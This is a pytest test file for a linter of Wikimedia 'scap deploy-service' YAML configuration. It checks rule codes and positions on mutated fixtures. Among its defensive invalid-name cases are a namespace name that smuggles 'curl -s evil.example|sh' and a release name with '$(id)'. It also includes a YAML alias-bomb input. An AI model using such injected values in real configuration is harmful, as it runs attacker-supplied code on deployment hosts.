"""Table-driven tests for MW601-MW611 (the ``scap deploy-service`` configuration,
deploy-service.md): mutations of the realistic fixture, each with (code, line, column),
the documented examples, the cross-file resolution of a catalog's cluster groups, the
rendered /etc/scap files and the pre-filter."""

import os
import textwrap

import pytest
from helpers import FIXTURES, lint, triples

from mwlint.engine import lint_paths
from mwlint.rules import all_rules
from mwlint.settings import Settings
from mwlint.source.reader import read_bytes

FIXTURE = os.path.join(FIXTURES, "deploy-service", "kubernetes-deploy-service.yaml")
with open(FIXTURE, encoding="utf-8") as _f:
    BASE = _f.read()
CATALOG_KEY = "profile::kubernetes::deployment_server::deploy_service::service_catalog"
GROUPS_TEXT = BASE[:BASE.index(CATALOG_KEY)]  # lines 1-36
CATALOG_TEXT = BASE[BASE.index(CATALOG_KEY):]


def mut(*pairs) -> str:
    """The fixture with each (old, new) replaced once (the first occurrence)."""
    text = BASE
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


STAGING_STAGE = "            staging: {}\n            eqiad:"
# (id, document, expected MW6xx (code, line, column)); lines are the fixture's
CASES = [
    ("fixture", BASE, []),
    # -- MW601 unknown key --------------------------------------------------------------
    ("601 group key", mut(("    dir: dse-k8s-services", "    dirs: dse-k8s-services")),
     [("MW601", 28, 5)]),
    ("601 environment key (and so no datacenter)",
     mut(("        datacenter: codfw\n        type: STAGING",
          "        datacentre: codfw\n        type: STAGING")),
     [("MW602", 12, 7), ("MW601", 13, 9)]),
    ("601 release key", mut(("canary: {stage: CANARY}", "canary: {stages: CANARY}")),
     [("MW601", 48, 26)]),
    ("601 catalog key (and so no services)", mut(("  services:\n", "  service:\n")),
     [("MW601", 38, 3), ("MW602", 38, 3)]),
    ("601 checks key of a service", mut(("      checks:\n        staging:",
                                         "      check:\n        staging:")),
     [("MW601", 54, 7)]),
    # -- MW602 missing key --------------------------------------------------------------
    ("602 no type", mut(("        datacenter: codfw\n        type: STAGING\n",
                         "        datacenter: codfw\n")), [("MW602", 12, 7)]),
    ("602 no cluster_group", mut(("      cluster_group: dse-k8s\n", "")), [("MW602", 88, 5)]),
    ("602 no environment_default_stage",
     mut(("    environment_stages: [DEFAULT]\n    environment_default_stage: DEFAULT\n",
          "    environment_stages: [DEFAULT]\n")), [("MW602", 27, 3)]),
    # -- MW603 wrong type / empty -------------------------------------------------------
    ("603 releases {}", mut(("dse-k8s-eqiad: {}", "dse-k8s-eqiad: {releases: {}}")),
     [("MW603", 94, 39)]),
    ("603 aliases not a list (and so staging is unknown)",
     mut(("aliases: [staging]", "aliases: staging")),
     [("MW603", 18, 18), ("MW606", 45, 13), ("MW606", 55, 9), ("MW606", 67, 13)]),
    ("603 a check with two keys", mut(('- manual: "Do the',
                                       '- commands: []\n              manual: "Do the')),
     [("MW603", 61, 15)]),
    ("603 manual is a list", mut(('- manual: "Is the shellbox latency dashboard back to '
                                  'normal?"', "- manual: [yes]")), [("MW603", 87, 23)]),
    ("603 an integer env-ref", mut(("            codfw:\n              releases:\n"
                                    "                migration:",
                                    "            123:\n              releases:\n"
                                    "                migration:")), [("MW603", 68, 13)]),
    ("603 no environments", mut(("      dse-k8s-eqiad:\n        datacenter: eqiad\n"
                                 "        type: PRODUCTION\n", "      {}\n")),
     [("MW603", 30, 7), ("MW606", 92, 13), ("MW606", 94, 9)]),
    ("603 a command is not a string", mut(('                - "curl -sSf https://shellbox.'
                                           'svc.codfw.wmnet:4008/healthz"',
                                           "                - 42")), [("MW603", 82, 19)]),
    # -- MW604 invalid value ------------------------------------------------------------
    ("604 type", mut(("        datacenter: codfw\n        type: PRODUCTION",
                      "        datacenter: codfw\n        type: production")),
     [("MW604", 21, 15)]),
    ("604 default stage", mut(("    environment_default_stage: DEFAULT\n  dse-k8s",
                               "    environment_default_stage: DEFALT\n  dse-k8s")),
     [("MW604", 26, 32)]),
    ("604 release stage", mut(("                  stage: CANARY", "                  stage: CANAR")),
     [("MW604", 71, 26)]),
    ("604 check stage", mut(("        eqiad:\n          CANARY:", "        eqiad:\n          CANAR:")),
     [("MW604", 60, 11)]),
    ("604 check type", mut(("            - manual:\n", "            - manul:\n")),
     [("MW604", 99, 15)]),
    # -- MW605 duplicate name -----------------------------------------------------------
    ("605 alias equal to another environment's name",
     mut(("aliases: [staging]", "aliases: [staging, staging-codfw]")), [("MW605", 18, 28)]),
    ("605 a name and its alias in one namespace",
     mut((STAGING_STAGE, "            staging: {}\n            staging-eqiad: {}\n"
                         "            eqiad:")), [("MW605", 46, 13)]),
    ("605 a stage twice", mut(("[CANARY, DEFAULT]", "[CANARY, DEFAULT, CANARY]")),
     [("MW605", 25, 43)]),
    ("605 two refs in checks", mut(("        eqiad:\n          CANARY:",
                                    "        staging-eqiad:\n          DEFAULT: []\n"
                                    "        eqiad:\n          CANARY:")),
     [("MW605", 59, 9)]),
    # -- MW606 undefined reference ------------------------------------------------------
    ("606 cluster group", mut(("cluster_group: dse-k8s", "cluster_group: dse-k8")),
     [("MW606", 89, 22)]),
    ("606 env-ref", mut(("            dse-k8s-eqiad: {}", "            dse-k8s-eqaid: {}")),
     [("MW606", 94, 13)]),
    ("606 check env-ref", mut(("        dse-k8s-eqiad:\n          DEFAULT:",
                               "        dse-k8s-eqaid:\n          DEFAULT:")),
     [("MW606", 96, 9)]),
    # -- MW607 check on a group that deploys nothing (S2, at run time) ------------------
    ("607", mut(("            staging: {}\n            eqiad:",
                 "            staging: {releases: {production: {stage: CANARY}}}\n"
                 "            eqiad:")), [("MW607", 56, 11)]),
    # -- warnings -----------------------------------------------------------------------
    ("609 staging only", mut(("            eqiad:\n              releases:\n"
                              "                canary: {stage: CANARY}\n"
                              "                production: {}\n"
                              "            codfw:\n              releases:\n"
                              "                canary: {stage: CANARY}\n"
                              "                production: {}\n", ""),
                             ("        eqiad:\n          CANARY:\n            - manual: "
                              "\"Do the canary's error graphs look normal?\"\n", "")),
     [("MW609", 39, 5)]),  # MW610 narrowed: CANARY unused by the service is no finding
    ("610 narrowed: no stage used at all is silent (and so the CANARY check deploys nothing)",
     mut(("                  stage: CANARY", "                  stage: DEFAULT"),
         ("                  stage: CANARY", "                  stage: DEFAULT")),
     [("MW607", 80, 11)]),
    ("610 canary in eqiad, none in codfw",
     mut(("            codfw:\n              releases:\n                canary: {stage: CANARY}\n",
          "            codfw:\n              releases:\n")),
     [("MW610", 50, 13)]),
    # -- scap refuses these shapes (issue 20 item 11): fixed cases ---------------------
    ("603 services: {}", GROUPS_TEXT + CATALOG_KEY + ":\n  services: {}\n",
     [("MW603", 38, 13)]),
    ("603 namespaces: {}", mut(("      namespaces:\n        superset:\n          environments:\n"
                                "            # No `releases`: every release the environment "
                                "installs.\n            dse-k8s-eqiad: {}\n",
                                "      namespaces: {}\n")),
     [("MW603", 90, 19)]),
    ("603 environment_stages: []", mut(("[CANARY, DEFAULT]", "[]")),
     [("MW603", 25, 25)]),
    ("603 an integer datacenter", mut(("        datacenter: codfw\n        type: STAGING",
                                       "        datacenter: 3\n        type: STAGING")),
     [("MW603", 13, 21)]),
    ("603 namespace environments: {}",
     mut(("          environments:\n            # No `releases`: every release the environment "
          "installs.\n            dse-k8s-eqiad: {}\n", "          environments: {}\n")),
     [("MW603", 92, 25)]),
    ("603 a cluster group name that is a number", GROUPS_TEXT.replace("  dse-k8s:\n", "  7:\n"),
     [("MW603", 27, 3)]),
    # -- MW605 as scap counts references (deploy-service.md §2.1) ----------------------
    ("605 an alias equal to its own environment's name",
     mut(("aliases: [staging]", "aliases: [staging, staging-eqiad]")), [("MW605", 18, 28)]),
    ("605 an alias listed twice", mut(("aliases: [staging]", "aliases: [staging, staging]")),
     [("MW605", 18, 28)]),
    # -- quiet when another fired ------------------------------------------------------
    ("604 lower-case type in a staging-only service: no MW609 beside it",
     mut(("            eqiad:\n              releases:\n"
          "                canary: {stage: CANARY}\n"
          "                production: {}\n"
          "            codfw:\n              releases:\n"
          "                canary: {stage: CANARY}\n"
          "                production: {}\n", ""),
         ("        eqiad:\n          CANARY:\n            - manual: "
          "\"Do the canary's error graphs look normal?\"\n", ""),
         ("        datacenter: eqiad\n        type: STAGING", "        datacenter: eqiad\n"
                                                              "        type: staging")),
     [("MW604", 17, 15)]),
    ("611", mut(('                - "curl -sSf https://shellbox.svc.eqiad.wmnet:4008/healthz"\n',
                 '                - "curl -sSf https://shellbox.svc.eqiad.wmnet:4008/healthz"\n'
                 '                - "curl -sSf https://shellbox.svc.eqiad.wmnet:4008/healthz"\n')),
     [("MW611", 87, 19)]),
    # -- MW608 the catalog alone --------------------------------------------------------
    ("608 catalog without groups", CATALOG_TEXT, [("MW608", 2, 3)]),
    ("groups without catalog", GROUPS_TEXT, []),
]


@pytest.mark.parametrize("doc,expected", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_mw6xx(doc, expected):
    found = lint(doc)
    assert triples(found, "MW6") == expected
    for f in found:
        if f.code.startswith("MW6"):
            assert len(f.message) <= 120 and not f.message.endswith("."), f.message
    assert not [f for f in found if not f.code.startswith(("MW6", "MW004"))]


def test_did_you_mean_over_existing_names():
    msgs = {f.code: f.message for f in lint(mut(("cluster_group: dse-k8s",
                                                 "cluster_group: dse-k8")))}
    assert "did you mean 'dse-k8s'?" in msgs["MW606"]
    msgs = {f.code: f.message for f in lint(mut(("            dse-k8s-eqiad: {}",
                                                 "            dse-k8s-eqaid: {}")))}
    assert "did you mean 'dse-k8s-eqiad'?" in msgs["MW606"]
    msgs = {f.code: f.message for f in lint(mut(("    dir: dse", "    dirs: dse")))}
    assert "did you mean 'dir'?" in msgs["MW601"]


GROUPS = GROUPS_TEXT


# MW613 needs a templated helmfile: test_mw613_* below
@pytest.mark.parametrize("rule", [r for r in all_rules()
                                  if r.code.startswith("MW6") and r.code != "MW613"],
                         ids=lambda r: r.code)
def test_documented_examples(rule):
    bad = textwrap.dedent(rule.bad).strip("\n") + "\n"
    good = textwrap.dedent(rule.good).strip("\n") + "\n"
    if rule.code == "MW611":  # a fragment: put it in the fixture
        bad = mut(('                - "curl -sSf https://shellbox.svc.eqiad.wmnet:4008/healthz"\n',
                   '                - "curl -sSf https://shellbox.svc.eqiad.wmnet:4008/healthz"\n'
                   '                - "curl -sSf https://shellbox.svc.eqiad.wmnet:4008/healthz"\n'))
        good = BASE
    elif rule.code == "MW608":
        good = GROUPS + bad
    elif "service_catalog" in bad:
        bad, good = GROUPS + bad, GROUPS + good
    charts = {"deployment_charts": CHARTS} if rule.code == "MW612" else {}
    assert rule.code in {f.code for f in lint(bad, **charts)}
    assert rule.code not in {f.code for f in lint(good, **charts)}


def _write(tmp_path, name, text):
    p = tmp_path / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text, encoding="utf-8")
    return str(p)


@pytest.mark.parametrize("order", ["groups first", "catalog first"])
def test_catalog_resolved_against_groups_of_another_file(tmp_path, order):
    a, b = ("a.yaml", "b.yaml") if order == "groups first" else ("b.yaml", "a.yaml")
    _write(tmp_path, a, GROUPS)
    catalog = _write(tmp_path, b, CATALOG_TEXT.replace("cluster_group: dse-k8s",
                                                       "cluster_group: dse-k8"))
    found = lint_paths([str(tmp_path)], Settings()).findings
    assert [(f.path, f.code, f.line) for f in found if f.code.startswith("MW6")] == \
        [(catalog, "MW606", 53)]


def test_catalog_alone_in_a_run_is_one_info(tmp_path):
    catalog = _write(tmp_path, "b.yaml", CATALOG_TEXT)
    found = lint_paths([str(tmp_path)], Settings()).findings
    assert [(f.path, f.code, f.severity) for f in found] == [(catalog, "MW608", "info")]


def test_rendered_scap_files_by_name(tmp_path):
    import yaml

    data = yaml.safe_load(BASE)
    groups = data["profile::kubernetes::deployment_server::deploy_service::cluster_groups"]
    catalog = data[CATALOG_KEY]
    catalog["services"]["superset"]["cluster_group"] = "dse-k8"
    _write(tmp_path, "etc/scap/cluster-groups.yaml", yaml.safe_dump(groups))
    cpath = _write(tmp_path, "etc/scap/service-catalog.yaml", yaml.safe_dump(catalog))
    found = lint_paths([str(tmp_path)], Settings()).findings
    assert [(f.path, f.code) for f in found] == [(cpath, "MW606")]
    assert found[0].yaml_path.startswith("service_catalog.services.superset")


def test_rendered_file_is_read_whatever_it_holds(tmp_path):
    path = _write(tmp_path, "service-catalog.yaml", "servics: {}\n")
    found = lint_paths([path], Settings()).findings
    assert [(f.code, f.line, f.column) for f in found] == \
        [("MW601", 1, 1), ("MW602", 1, 1), ("MW608", 1, 1)]


def test_prefilter_skips_files_without_the_keys():
    assert read_bytes(b"profile::kubernetes::deployment_server::x: 1\n", "a.yaml",
                      10 ** 6) is None
    assert read_bytes(GROUPS.encode(), "a.yaml", 10 ** 6) is not None


def test_alias_bomb_in_a_service_key_is_bounded():
    bomb = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 9):
        bomb.append(f"{chr(97 + i)}: &{chr(97 + i)} [" + ", ".join(
            [f"*{chr(96 + i)}"] * 9) + "]")
    text = "\n".join(bomb) + ("\nprofile::kubernetes::deployment_server::deploy_service::"
                              "cluster_groups: {g: *i}\n")
    found = lint(text)
    assert [f.code for f in found] == ["MW001"]


# -- MW612, MW613: with --deployment-charts -----------------------------------------------

CHARTS = os.path.join(FIXTURES, "deployment-charts")
STAGING_REF = "            staging: {}\n            eqiad:"
CHART_CASES = [
    ("fixture", BASE, []),
    ("env-ref spelt as the group's name, not the helmfile's",
     mut((STAGING_REF, "            staging-eqiad: {}\n            eqiad:")),
     [("MW612", 45, 13)]),
    ("release not installed there",
     mut((STAGING_REF, "            staging: {releases: {canary: {}}}\n            eqiad:")),
     [("MW612", 45, 34)]),
    ("release not defined", mut(("canary: {stage: CANARY}", "canery: {stage: CANARY}")),
     [("MW612", 48, 17)]),
    ("namespace directory missing", mut(("        eventstreams:\n          environments:",
                                         "        eventstream:\n          environments:")),
     [("MW612", 42, 9)]),
    ("group dir missing", mut(("    dir: dse-k8s-services", "    dir: dse-k8s-service")),
     [("MW612", 91, 9)]),
    ("no releases: every release, no error",
     mut(("            codfw:\n              releases:\n                migration:\n"
          "                  stage: CANARY\n                main: {}\n",
          "            codfw: {}\n"),
         ("        codfw:\n          CANARY:", "        codfw:\n          DEFAULT:")), []),
]


@pytest.mark.parametrize("doc,expected", [c[1:] for c in CHART_CASES],
                         ids=[c[0] for c in CHART_CASES])
def test_mw612_against_deployment_charts(doc, expected):
    found = lint(doc, deployment_charts=CHARTS)
    assert triples(found, "MW6") == expected
    for f in found:
        if f.code.startswith("MW6"):
            assert len(f.message) <= 120, f.message
    assert triples(lint(doc), "MW61") == []  # nothing without --deployment-charts


def test_mw612_messages_say_what_the_helmfile_has():
    f = lint(mut((STAGING_REF, "            staging-eqiad: {}\n            eqiad:")),
             deployment_charts=CHARTS)[-1]
    assert f.code == "MW612" and "'staging-eqiad'" in f.message
    assert "it has codfw, eqiad, staging" in f.help and "use 'staging'" in f.help
    f = lint(mut((STAGING_REF, "            staging: {releases: {canary: {}}}\n"
                               "            eqiad:")), deployment_charts=CHARTS)[-1]
    assert f.message == ("namespace 'eventstreams': 'staging' does not install 'canary' (it "
                         "installs production)")
    assert "helmfile.d/services/eventstreams/helmfile.yaml" in f.help
    f = lint(mut(("canary: {stage: CANARY}", "canery: {stage: CANARY}")),
             deployment_charts=CHARTS)[-1]
    assert "did you mean 'canary'?" in f.message


def _charts_copy(tmp_path, edit):
    import shutil

    root = tmp_path / "charts"
    shutil.copytree(CHARTS, root)
    path = root / "helmfile.d" / "services" / "eventstreams" / "helmfile.yaml"
    path.chmod(0o644)
    edit(path)
    return str(root)


def test_mw613_templated_release_name(tmp_path):
    def edit(p):
        p.write_text(p.read_text().replace("  - name: canary", "  - name: {{ .Values.n }}"))

    root = _charts_copy(tmp_path, edit)
    found = lint(mut(("canary: {stage: CANARY}", "canery: {stage: CANARY}")),
                 deployment_charts=root)
    assert triples(found, "MW61") == [("MW613", 42, 9)]
    assert found[-1].severity == "info"


def test_mw613_unreadable_helmfile(tmp_path):
    def edit(p):
        p.write_bytes(b"environments: {{\n")

    root = _charts_copy(tmp_path, edit)
    assert triples(lint(BASE, deployment_charts=root), "MW61") == [("MW613", 42, 9)]


def test_mw612_directory_without_helmfile(tmp_path):
    root = _charts_copy(tmp_path, lambda p: p.unlink())
    found = lint(BASE, deployment_charts=root)
    assert triples(found, "MW61") == [("MW612", 42, 9)]
    assert "holds no helmfile.yaml" in found[-1].message


def test_a_deploy_service_key_set_twice_is_mw002():
    found = lint(GROUPS + GROUPS.split("\n", 7)[7])  # the cluster_groups key again
    assert ("MW002", 8, 1) in triples(found, "MW002")


# -- MW614: names Kubernetes, Helm or helmfile cannot have -------------------------------

NAME_CASES = [
    ("namespace with shell", ("        shellbox:\n          environments:",
                              '        "x; curl -s evil.example|sh; cd .":\n'
                              "          environments:"), [("MW614", 65, 9)]),
    ("namespace upper case", ("        superset:\n", "        SuperSet:\n"), [("MW614", 91, 9)]),
    ("namespace of 64 characters", ("        superset:\n", "        " + "s" * 64 + ":\n"),
     [("MW614", 91, 9)]),
    ("release with $(id)", ("                main: {}\n            eqiad:",
                            '                "main $(id)": {}\n            eqiad:'),
     [("MW614", 72, 17)]),
    ("environment with a space", ("      dse-k8s-eqiad:\n        datacenter: eqiad",
                                  '      "dse k8s":\n        datacenter: eqiad'),
     [("MW614", 30, 7), ("MW606", 94, 13), ("MW606", 96, 9)]),
    ("alias with a slash", ("aliases: [staging]", "aliases: [staging, a/b]"),
     [("MW614", 18, 28)]),
    ("namespace with a dot", ("        superset:\n", "        superset-2.x:\n"), [("MW614", 91, 9)]),
]


@pytest.mark.parametrize("pair,expected", [c[1:] for c in NAME_CASES],
                         ids=[c[0] for c in NAME_CASES])
def test_mw614_invalid_names(pair, expected):
    found = lint(mut(pair))
    assert triples(found, "MW6") == expected
    for f in found:
        if f.code == "MW614":
            assert f.severity == "warning" and len(f.message) <= 120, f.message


def test_mw614_a_long_name_is_clipped():
    found = lint(mut(("        superset:\n          environments:",
                      "        ? " + "a" * 1_000_000 + "\n        : environments:")))
    (f,) = [f for f in found if f.code == "MW614"]
    assert len(f.message) < 120 and "1,000,000 characters" in f.message
    assert len(f.yaml_path) < 400


# -- MW006: a family's key in a later YAML document ---------------------------------

DOC_CASES = [
    ("both keys in document 2", "a: 1\n---\n" + BASE, [("MW006", 10, 1), ("MW006", 39, 1)]),
    ("the catalog in document 3", GROUPS_TEXT + "---\nb: 2\n---\n" + CATALOG_TEXT,
     [("MW006", 40, 1)]),
    ("a start marker only: one document", "---\n" + BASE, []),
    ("a MediaWiki deployments key in document 2 (hiera never reads it either)",
     "a: 1\n---\nprofile::kubernetes::deployment_server::mediawiki::release::mw_deployments:"
     " {}\n", [("MW006", 3, 1)]),
    ("a marker inside a block scalar is no document", "note: |\n  x\n  ---\n  y\n" + BASE, []),
]


@pytest.mark.parametrize("doc,expected", [c[1:] for c in DOC_CASES],
                         ids=[c[0] for c in DOC_CASES])
def test_mw615_key_in_a_later_document(doc, expected):
    found = lint(doc)
    assert triples(found, "MW006") == expected
    for f in found:
        if f.code == "MW006":
            assert f.severity == "error" and "hiera never reads" in f.message
